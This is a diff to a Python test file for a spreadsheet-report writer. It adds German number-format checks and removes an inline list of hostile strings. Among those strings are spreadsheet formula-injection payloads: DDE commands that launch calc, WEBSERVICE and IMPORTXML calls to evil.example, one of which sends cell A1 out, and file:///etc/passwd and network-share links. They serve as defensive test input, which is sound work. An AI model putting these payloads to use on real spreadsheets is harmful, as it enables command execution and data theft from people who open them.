@@ -9,11 +9,14 @@ from typing import Any
 import numpy as np
 import pytest
 
+from hostile_texts import hostile
 from softseg.decisions.answers.headline import headline
+from softseg.decisions.inputs.ranges import marginal
 from softseg.decisions.inputs.schema import Assumptions
 from softseg.decisions.tree import assumptions_hash
 from softseg.errors import FileError, UsageError
 from softseg.report.workbook import write_workbook
+from softseg.report.workbook.audit_sheet import _how_read, _parameters
 from softseg.report.workbook.cells import LONGEST
 from softseg.report.workbook.formula import ONE, ZERO, Formula, literal, ratio
 from workbook_reading import (
@@ -204,6 +207,11 @@ def test_audit_says_where_everything_comes_from() -> None:
     assert margin[1] == "margin_uplift"
     assert margin[5:7] == ["Log-normal", "0.8 to 2.5, 90% sure"]
     assert margin[8].startswith("mu = ")
+    entry = simulation.assumptions.inputs["savings"]
+    exact = entry.model_copy(update={"value": 1_234_567.5, "low": None, "high": None})
+    assert _parameters(marginal(exact), "de") == "value = 1.234.567,5"
+    wide = entry.model_copy(update={"low": 1_234_567.5, "high": 7_654_321.25})
+    assert _how_read(simulation.assumptions, wide, "de").startswith("1.234.567,5 bis 7.654.321,25")
     drawn = simulation.draws.values["margin_uplift"]
     assert margin[10:13] == pytest.approx(100 * np.quantile(drawn, [0.05, 0.5, 0.95]))
     assert "All rank correlations are as asked for." in rows
@@ -272,64 +280,6 @@ def test_a_programme_without_costs_has_no_ratio() -> None:
     assert rows["Central values"][6:8] == ["–", "–"]
     assert rows["ROI: 50% of draws lie below"][1] == "–"
     assert rows["ROI of the averages: net present value ÷ cost"][1] == "–"
-
-
-STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "{=", "=@", "==", "＝", "=+")
-PAYLOADS = (
-    "1+1",
-    "cmd|'/C calc'!A0",
-    'HYPERLINK("http://evil.example","here")',
-    'WEBSERVICE("http://evil.example/"&A1)',
-    "SUM(A1:A9)",
-    'IMPORTXML("http://evil.example","//a")',
-    "'[other.xlsx]Sheet'!A1",
-    'DDE("cmd";"/C calc";"")',
-    "A1}",
-    "<script>alert(1)</script>",
-)
-LINKS = (
-    "http://evil.example/",
-    "https://evil.example/?q=1",
-    "ftp://evil.example",
-    "mailto:someone@evil.example",
-    "file:///etc/passwd",
-    "internal:Results!A1",
-    "external:other.xlsx",
-    "\\\\evil.example\\share",
-)
-ODD = (
-    "]]></t><f>1+1</f><t>",
-    "</t></si><si><t>=1+1",
-    "&lt;f&gt;1&lt;/f&gt;",
-    "_x003D_1+1",
-    "\x00\x01\x08\x0b\x1f=1+1",
-    "\ufffe\uffff=1",
-    "\u202e=1+1",
-    "\u200b=1+1",
-    "{0} {name} {{}}",
-    "%s %d %(x)s",
-    "&L&A&R&P",
-    "0x10",
-    "1e308",
-    "00123",
-    "2024-01-01",
-    "TRUE",
-    "#REF!",
-    "#DIV/0!",
-    "null",
-    "🙂 =1+1",
-    "ß" * 40_000,
-    "=" * 33_000,
-)
-
-
-def hostile() -> list[str]:
-    """Return 200 strings that a spreadsheet could take for something else."""
-    texts = [start + payload for start in STARTS for payload in PAYLOADS]
-    texts += [*LINKS, *ODD]
-    texts += [f'"{text}"' for text in texts[: 200 - len(texts)]]
-    assert len(set(texts)) >= 200
-    return texts
 
 
 def with_texts(texts: list[str]) -> Assumptions:
